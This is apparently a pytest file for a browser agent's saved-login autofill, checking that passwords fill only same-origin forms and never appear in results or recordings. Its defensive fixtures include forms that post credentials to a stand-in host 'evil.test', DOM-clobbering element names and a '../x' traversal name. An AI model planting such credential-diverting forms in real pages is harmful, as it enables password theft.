"""`browser_login` on Chromium: a saved login goes into the form of its own origin, and nowhere else."""

from __future__ import annotations

import io
import sys
from pathlib import Path
from typing import Any

import pytest
from cryptography.fernet import Fernet

from cdp_agent.program import main
from supervisor.addons.storage import login
from supervisor.core.vocabulary.values import FrameInfo, FrameTree
from supervisor.saved_state.logins import Login, LoginFiles
from tests.supervisor.tools.conftest import Call, Tools
from tests.support.secrets import CANARY
from tests.support.servers.sites import Response, Sites, iframe

FORM = """<!doctype html><title>Log in</title><link rel=icon href=data:,>
<input aria-label=Search><form method=post action=%s><label>Mail <input name=mail></label>
<label>Password <input type=password></label><label>New <input type=password autocomplete=new-password hidden></label>
<button>Go</button></form>
<script>const seen = []; addEventListener('input', event => seen.push(event.target.type))</script>"""
IS_FILLED = f"document.querySelector('[type=password]').value === {CANARY!r} ? seen.join() : 'no'"


@pytest.fixture
def call(tools: Tools, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Call:
    for kind in ("LOGIN", "FILES"):
        monkeypatch.setenv(f"CDP_{kind}_FOLDER", str(tmp_path / kind))
    monkeypatch.setenv("CDP_STATE_KEY", Fernet.generate_key().decode())
    return tools()


@pytest.fixture
def saved(call: Call, sites: Sites) -> Sites:
    sites.pages["/"] = FORM % "/in"
    LoginFiles().save("shop", Login(origin=sites.local("/any"), user="ada", password=CANARY))
    return sites


def is_filled(call: Call) -> Any:
    return call("browser_evaluate", expression=IS_FILLED)["value"]


def test_the_form_is_filled_as_a_person_would_and_no_result_has_the_password(call: Call, saved: Sites) -> None:
    call("browser_navigate", url=saved.local("/"))

    result = call("browser_login", name="shop")

    assert result["filled"] == ["user", "password"]
    assert is_filled(call) == "text,password"
    assert call("browser_verify", check="value", ref="label=Mail", expected="ada")["holds"]
    shown = call("browser_evaluate", expression="document.querySelector('[type=password]').value")
    assert shown["value"] == "[redacted]"
    assert call("browser_login")["names"] == ["shop"]


EVIL = "formaction=https://evil.test/"
NO_FORMS = {
    "no form": "<p>nothing",
    "an action elsewhere": FORM % "https://evil.test/in",
    "a button elsewhere": FORM.replace("<button>", f"<button {EVIL}>") % "/in",
    "a picture": FORM.replace("<button>", f"<input type=image {EVIL}><button>") % "/in",
    "a picture outside": FORM.replace("<form", "<input type=image form=f formaction=//evil.test/><form id=f") % "/in",
    "named elements": FORM.replace("<button>", f"<select name=elements></select><button {EVIL}>") % "/in",
    "two passwords": FORM % "/in" + "<input type=password>",
    "only a name": FORM.replace("<input type=password>", "<input type=password disabled>") % "/in" + "<p>",
}


@pytest.mark.parametrize("what", NO_FORMS)
def test_a_form_that_could_give_it_away_is_refused(call: Call, saved: Sites, what: str) -> None:
    saved.pages["/"] = NO_FORMS[what]
    call("browser_navigate", url=saved.local("/"))

    result = call("browser_login", name="shop")

    outcome = (None, ["user"]) if what == "only a name" else ("InvalidArgument", None)
    assert (result.get("error_type"), result.get("filled")) == outcome
    if what != "no form":
        assert is_filled(call) == "no"


MEMBERS_OF_FORMS = ("elements", "getAttribute", "action", "shadowRoot", "hasAttribute", "form")
MEMBERS_OF_DOCUMENTS = ("querySelectorAll", "baseURI", "location", "URL", "defaultView")
MISNAMED = {
    **{name: FORM.replace("<button>", f"<select name={name}></select><button>") % "/in" for name in MEMBERS_OF_FORMS},
    **{name: FORM % "/in" + f"<img name={name}>" for name in MEMBERS_OF_DOCUMENTS},
}


@pytest.mark.parametrize("name", MISNAMED)
def test_an_element_with_the_name_of_a_member_changes_nothing(call: Call, saved: Sites, name: str) -> None:
    saved.pages["/"] = MISNAMED[name]
    call("browser_navigate", url=saved.local("/"))

    assert call("browser_login", name="shop").get("filled") == ["user", "password"]


@pytest.mark.parametrize(
    "sandbox", ["sandbox allow-scripts allow-forms", "sandbox allow-scripts; default-src * 'unsafe-inline'"]
)
def test_a_document_that_the_server_put_into_a_sandbox_gets_nothing(call: Call, saved: Sites, sandbox: str) -> None:
    saved.pages["/user-content"] = Response(FORM % "/in", headers={"Content-Security-Policy": sandbox})
    call("browser_navigate", url=saved.local("/user-content"))

    assert call("browser_login", name="shop")["error_type"] == "Refused"
    assert is_filled(call) == "no"


@pytest.mark.parametrize("flags", ["allow-scripts", "'allow-scripts allow-forms allow-popups'"])
def test_a_frame_in_a_sandbox_gets_nothing(call: Call, saved: Sites, flags: str) -> None:
    saved.pages["/around"] = f"<iframe sandbox={flags} src='{saved.local('/')}'></iframe>"
    call("browser_navigate", url=saved.local("/around"))
    call("browser_wait", until="loaded")

    assert call("browser_login", name="shop")["success"] is False


def test_a_page_of_another_origin_and_one_that_embeds_the_form_get_nothing(call: Call, saved: Sites) -> None:
    saved.pages["/around"] = FORM % "/in" + iframe(saved.local("/"))
    for address in (saved.remote("/"), saved.remote("/around")):
        call("browser_navigate", url=address)
        call("browser_wait", until="loaded")

        result = call("browser_login", name="shop")

        why = "the login is refused by the policy: it belongs to another origin than that of the page"
        assert (result["error_type"], result["error"]) == ("Refused", why)
        assert is_filled(call) == "no"


def test_a_document_that_comes_late_is_not_filled(call: Call, saved: Sites, monkeypatch: pytest.MonkeyPatch) -> None:
    """The script itself compares the origins: what is known of the frame may be old."""

    def top_only(tree: FrameTree, origin: str) -> list[FrameInfo | None]:
        return [tree.top]

    monkeypatch.setattr(login, "_frames_of", top_only)
    call("browser_navigate", url=saved.remote("/"))

    assert call("browser_login", name="shop")["error_type"] == "Refused"
    assert is_filled(call) == "no"


def test_a_recorded_login_is_a_form_with_variables(call: Call, saved: Sites, tmp_path: Path) -> None:
    call("browser_navigate", url=saved.local("/"))
    call("browser_recording", action="start")
    call("browser_login", name="shop")

    result = call("browser_recording", action="stop", show="playwright-python")

    assert result["variables"] == ["SHOP_USER", "SHOP_PASSWORD"]
    assert [line.strip() for line in result["code"].splitlines() if ".fill(" in line] == [
        'page.get_by_role("textbox", name="Mail", exact=True).fill(os.environ["SHOP_USER"])',
        'page.get_by_role("textbox", name="Password", exact=True).fill(os.environ["SHOP_PASSWORD"])',
    ]
    assert not [path for path in (tmp_path / "FILES").iterdir() if CANARY in path.read_text()]


def test_the_command_line_keeps_lists_and_removes_logins(
    call: Call, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO(f"{CANARY}\n"))

    assert main(["login", "add", "shop", "HTTPS://Shop.Example:443/login", "--user", "ada"]) == 0
    assert main(["login", "list"]) == 0

    assert LoginFiles().load("shop") == Login(origin="https://shop.example", user="ada", password=CANARY)
    (path,) = (tmp_path / "LOGIN").iterdir()
    assert CANARY.encode() not in path.read_bytes()
    assert path.stat().st_mode & 0o777 == 0o600
    assert main(["login", "remove", "shop"]) == 0
    assert main(["login", "remove", "shop"]) == 1
    monkeypatch.setattr(sys, "stdin", io.StringIO("abc\n"))
    assert main(["login", "add", "shop", "https://shop.example"]) == 2
    assert main(["login", "add", "shop", "shop.example"]) == 2
    assert "shop" in capsys.readouterr().out


def test_a_login_that_does_not_exist_is_refused(call: Call) -> None:
    assert call("browser_login", name="other")["error_type"] == "InvalidArgument"
    refused = call("browser_login", name="../x")
    assert (refused["error_type"], refused["argument"]) == ("InvalidArgument", "name")
